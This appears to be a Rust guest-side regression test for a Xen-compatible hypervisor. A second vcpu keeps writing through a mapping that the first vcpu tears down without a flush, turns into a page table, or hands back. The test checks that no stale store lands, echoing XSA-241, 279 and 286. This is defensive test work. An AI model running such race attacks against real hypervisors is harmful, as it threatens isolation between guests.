//! Attack: one vcpu goes on writing through a translation that another vcpu has taken away (pv-abi 13; XSA-241, 279, 286).
//! Trigger: vcpu 1 writes a page without end; vcpu 0 unmaps it without a flush, makes it a page table, or gives it back.
//! Expectation: no store reaches the frame once it is a table, or somebody's again. Harmless to Xen. Needs two vcpus.
#![no_std]
#![no_main]

use core::sync::atomic::{AtomicBool, AtomicU64, Ordering::SeqCst};
use rexen_guests::{abi, check, check_eq, clock, guest, hypercall, memory, smp};

guest!("hostile_stale_tlb", main);

static TARGET: AtomicU64 = AtomicU64::new(0);
static WRITES: AtomicU64 = AtomicU64::new(0);
static FAULTS: AtomicU64 = AtomicU64::new(0);
static IS_OVER: AtomicBool = AtomicBool::new(false);

const ROUNDS: u64 = 25;
/// How long vcpu 1 may have to wait for a CPU when there are many guests.
const PATIENCE_NS: u64 = 10_000_000_000;

/// What vcpu 1 writes: an entry that is not present, so that the page can be a table.
const POISON: u64 = 0xfff066;

extern "C" fn write_without_end(_: u64) {
    while !IS_OVER.load(SeqCst) {
        let target = TARGET.load(SeqCst);
        if target == 0 {
            core::hint::spin_loop();
        } else if smp::write(target, POISON) {
            WRITES.fetch_add(1, SeqCst);
        } else {
            FAULTS.fetch_add(1, SeqCst);
        }
    }
}

/// Waits until vcpu 1 has written some more.
fn let_it_write() -> bool {
    let start = WRITES.load(SeqCst);
    let end = clock::now() + PATIENCE_NS;
    while clock::now() < end {
        if WRITES.load(SeqCst) > start + 20 {
            return true;
        }
        hypercall::call(abi::SCHED_OP, [abi::SCHEDOP_YIELD, 0]);
    }
    false
}

fn main() {
    check_eq!(smp::start(1, write_without_end, 0), 0, "starting vcpu 1");
    becomes_a_table();
    goes_back();
    IS_OVER.store(true, SeqCst);
    check!(FAULTS.load(SeqCst) > 0, "vcpu 1 saw a fault");
}

/// The frame is watched through a second, read-only mapping.
fn becomes_a_table() {
    let [page, view] = [memory::new_page(), memory::new_page()];
    check_eq!(
        hypercall::update_va_mapping(view, (memory::mfn_of(page) * memory::PAGE) | 0x25),
        0,
        "a second view"
    );
    let slot = memory::entry_address(page, 1).unwrap_or(0);
    for round in 0..ROUNDS {
        TARGET.store(page, SeqCst);
        check!(let_it_write(), "vcpu 1 writes");
        // No flush is asked for: the change of type has to see to that itself.
        check_eq!(memory::set_entry(slot, 0), 0, "unmapping");
        check_eq!(memory::pin(page, 1), 0, "pinning");
        check_eq!(memory::set_entry(page, 0), 0, "clearing the table's entry");
        for _ in 0..2000 {
            core::hint::spin_loop();
        }
        check_eq!(
            memory::read(view),
            0,
            "round {round}: a table is changed by a store"
        );
        check_eq!(memory::unpin(page), 0, "unpinning");
        TARGET.store(0, SeqCst);
        check_eq!(memory::set_writable(page, true), 0, "mapping it again");
    }
}

/// Frames given back and taken again: the new owner, who is the old one by chance, sees no store through the old mapping.
fn goes_back() {
    for round in 0..ROUNDS {
        let Some(page) = memory::spare_page(round) else {
            break;
        };
        TARGET.store(page, SeqCst);
        check!(let_it_write(), "vcpu 1 writes");
        let slot = memory::entry_address(page, 1).unwrap_or(0);
        check_eq!(memory::set_entry(slot, 0), 0, "unmapping");
        let old = memory::mfn_of(page);
        let mut list = [old];
        let mut reservation = [hypercall::pointer(&mut list), 1, 0, abi::DOMID_SELF];
        let done = hypercall::call(abi::MEMORY_OP, [1, hypercall::pointer(&mut reservation)]);
        check_eq!(done, 1, "round {round}: giving the frame back");
        list[0] = 0x100 + round;
        let done = hypercall::call(abi::MEMORY_OP, [6, hypercall::pointer(&mut reservation)]);
        check_eq!(done, 1, "round {round}: taking a frame");
        let view = memory::spare_page(ROUNDS).unwrap_or(0);
        check_eq!(
            hypercall::update_va_mapping(view, (list[0] * memory::PAGE) | 0x27),
            0,
            "mapping it"
        );
        memory::write(view, 0);
        for _ in 0..2000 {
            core::hint::spin_loop();
        }
        check_eq!(
            memory::read(view),
            0,
            "round {round}: frame {:#x} that was {old:#x}, after a store through the old mapping",
            list[0]
        );
        TARGET.store(0, SeqCst);
    }
}
